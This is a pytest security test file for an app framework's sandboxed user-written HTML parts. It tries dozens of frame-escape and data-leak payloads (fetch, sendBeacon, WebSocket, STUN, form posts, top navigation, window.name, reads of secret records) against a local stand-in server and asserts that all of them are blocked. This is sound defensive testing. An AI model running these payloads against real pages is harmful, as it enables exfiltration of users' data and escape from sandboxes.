"""Attacks of a file of the person's own, which may be anybody's code: it must not get out of its frame.

Each attack is a part of its own, all on one page; what they could do they try to tell. A counting server on
this computer stands for the whole outside.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from chromium_pipe import Chromium
from opener import read_app, write
from outside import Outside
from own_parts import put_own_part
from tab import Tab
from webengine_tab import WebEngine

WITHIN = {
    "fetch": "fetch('{http}/x').then(() => tell('got'))",
    "no cors": "fetch('{http}/x', {{ mode: 'no-cors' }}).then(() => tell('got'))",
    "beacon": "navigator.sendBeacon('{http}/x', 'secret')",
    "socket": "new WebSocket('ws://127.0.0.1:{port}/').onopen = () => tell('got')",
    "events": "new EventSource('{http}/x').onopen = () => tell('got')",
    "image": "add('<img src={http}/x>'); new Image().src = '{http}/y'",
    "styles": "add('<style>@import url({http}/a); body {{ background: url({http}/b) }}</style><link rel=stylesheet href={http}/c>')",
    "hints": "for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'icon', 'manifest'])"
    " add(`<link rel=${{rel}} as=image href={http}/${{rel}}>`)",
    "script": "const one = document.createElement('script'); one.src = '{http}/x.js'; document.body.append(one)",
    "module": "import('{http}/x.js').then(() => tell('got'))",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('{http}/x')`])))",
    "media": "add('<video src={http}/v autoplay></video><svg><image href={http}/i /></svg>')",
    "ping": "add('<a id=ping href=# ping={http}/x>x</a>'); ping.click()",
    "no rules": "document.querySelectorAll('meta').forEach((one) => one.remove()); fetch('{http}/x').then(() => tell('got'))",
    "peers": "new (window.RTCPeerConnection ?? window.webkitRTCPeerConnection)({{ iceServers: [{{ urls: 'stun:127.0.0.1:{port}' }}] }})"
    ".createOffer().then(() => tell('got'))",
    "top": "top.location = '{http}/x'",
    "top link": "add('<a id=up target=_top href={http}/x>x</a>'); up.click()",
    "window": "if (window.open('{http}/x')) tell('got')",
    "new tab": "add('<a id=tab target=_blank href={http}/x>x</a>'); tab.click()",
    "page": "tell(parent.document.title)",
    "scripts of the page": "tell(typeof parent.homespun)",
    "storage": "localStorage.setItem('a', '1'); tell('got')",
    "database": "indexedDB.open('homespun'); tell('got')",
    "cookie": "document.cookie = 'a=1'; tell(document.cookie)",
    "cache": "caches.open('a').then(() => tell('got'))",
    "origin": "if (origin !== 'null') tell(origin)",
    "other records": "homespun.records('Secret').then((all) => all.some((one) => 'words' in one.values) && tell('got'))",
    "kind of record": "homespun.add({{ entity: 'Secret', words: 'x', __proto__: {{ words: 1 }} }})",
    "window of the database": "fetch('/records', {{ method: 'POST', headers: {{ 'Homespun-Message': '{{}}' }} }}).then(() => tell('got'))",
    "the app's files": "fetch('../../app.js').then(() => tell('got'), () => {{}}); add(`<img src=../../app.js onload=\"tell('got')\">`)",
    "alert": "alert(1)",
    "camera": "navigator.mediaDevices.getUserMedia({{ video: true }}).then(() => tell('got'))",
    "full screen": "document.body.requestFullscreen().then(() => tell('got'))",
    "shadow": "const box = add('<p></p>').attachShadow({{ mode: 'closed' }}); box.innerHTML = INNER",
    "frame in a frame": "add(INNER); const end = Date.now() + 150; while (Date.now() < end);",
}
"""What can be tried without the frame being lost. `tell` says what should not be there; {http} is the outside."""

SET_UP = """<script>
const tell = (words) => homespun.add({ name: "OUT " + words });
const add = (html) => {
    const box = document.createElement("div");
    box.innerHTML = html;
    document.body.append(box);
    return box.firstElementChild;
};
const INNER = `<iframe srcdoc="<script>
    parent.postMessage('inside', '*');
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:PORT' }] });
    peer.createDataChannel('a');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
</` + `script>"></iframe>`;
addEventListener("message", ({ data }) => data === "inside" && tell("a frame in the frame"));
</script>
<template shadowrootmode="closed"></template>
<div><template shadowrootmode="closed"><iframe srcdoc="<script>parent.postMessage('inside', '*')</script>"></iframe></template></div>
"""
DONE = '<script>setTimeout(() => homespun.add({ name: "done" }), 600)</script>'

AWAY = {
    "location": "<script>location = '{http}/x'</script>",
    "refresh": "<meta http-equiv=refresh content='0;url={http}/x'>",
    "form": "<form action='{http}/x' method=post><input name=a></form><script>document.forms[0].submit()</script>",
    "download": "<a id=a download=x href='{http}/x'>x</a><script>a.click()</script>",
    "data": "<script>location = 'data:text/html,<img src={http}/x>'</script>",
    "blob": "<script>location = URL.createObjectURL(new Blob(['<img src={http}/x>'], {{ type: 'text/html' }}))</script>",
    "window name": "<script>name = 'secret'; location = '{http}/x'</script>",
}
"""What loses the frame if it works, each in a frame of its own."""


@pytest.fixture
def outside() -> Iterator[Outside]:
    server = Outside()
    yield server
    server.close()


def open_parts(browser: Chromium | WebEngine, folder: Path, parts: dict[str, str]) -> Tab:
    """Open an app with a page that shows these files."""
    blocks = "\n".join(f'  custom "{name}" of Seed; height 60' for name in parts)
    text = f'app "Fence"\n\nentity Seed\n  name: text\n\nentity Secret\n  words: text\n  sample "x"\n\npage One\n{blocks}\n\npage Two\n  table of Secret\n'
    write(read_app(text), folder)
    for name, html in parts.items():
        put_own_part(folder, name.replace(" ", "-"), html)
    tab = browser.open(folder, "", width=800, height=600, dark=False, still=False, scripts=[])
    tab.settle()
    return tab


def test_a_part_of_ones_own_reaches_nothing(
    browser: Chromium | WebEngine, outside: Outside, tmp_path: Path
) -> None:
    places = {"http": f"http://127.0.0.1:{outside.port}", "port": outside.port}
    tries = "\n".join(
        f"<script>(async () => {{\n{script.format(**places)}\n}})().catch(() => {{}})</script>"
        for script in WITHIN.values()
    )
    tab = open_parts(browser, tmp_path, {"seeds": SET_UP.replace("PORT", str(outside.port)) + tries + DONE})
    tab.wait("homespun.store.list('Seed').some((record) => record.values.name === 'done')")
    names = tab.run("homespun.store.list('Seed').map((record) => record.values.name)")
    assert [name for name in names if name not in (None, "done")] == []  # type: ignore[union-attr]
    assert tab.run("homespun.store.list('Secret').length") == 1
    assert str(tab.run("location.href")).split("#")[0].endswith("/index.html")
    tab.close()
    assert outside.arrived == []


def test_a_part_of_ones_own_cannot_go_elsewhere(
    browser: Chromium | WebEngine, outside: Outside, tmp_path: Path
) -> None:
    """No request leaves. A browser of its own may open a connection before it refuses; the window does not."""
    http = f"http://127.0.0.1:{outside.port}"
    tab = open_parts(browser, tmp_path, {name: html.format(http=http) for name, html in AWAY.items()})
    tab.run("new Promise((done) => setTimeout(() => done(true), 700))")
    assert str(tab.run("location.href")).split("#")[0].endswith("/index.html")
    tab.close()
    asked = [line for line in outside.arrived if line != "tcp " or isinstance(browser, WebEngine)]
    assert asked == []


def test_no_file_of_ones_own_is_no_hole_in_the_page(browser: Chromium | WebEngine, tmp_path: Path) -> None:
    """Only an app that shows such a file may show frames at all."""
    for name, blocks in (("with", '  custom "A"'), ("without", '  text "A"')):
        write(read_app(f'app "A"\n\npage One\n{blocks}\n'), tmp_path / name)
    pages = {
        name: (tmp_path / name / "index.html").read_text(encoding="utf-8") for name in ("with", "without")
    }
    assert "frame-src 'self' file:;" in pages["with"]
    assert "frame-src" not in pages["without"]
    assert json.dumps("unsafe") not in json.dumps(pages)
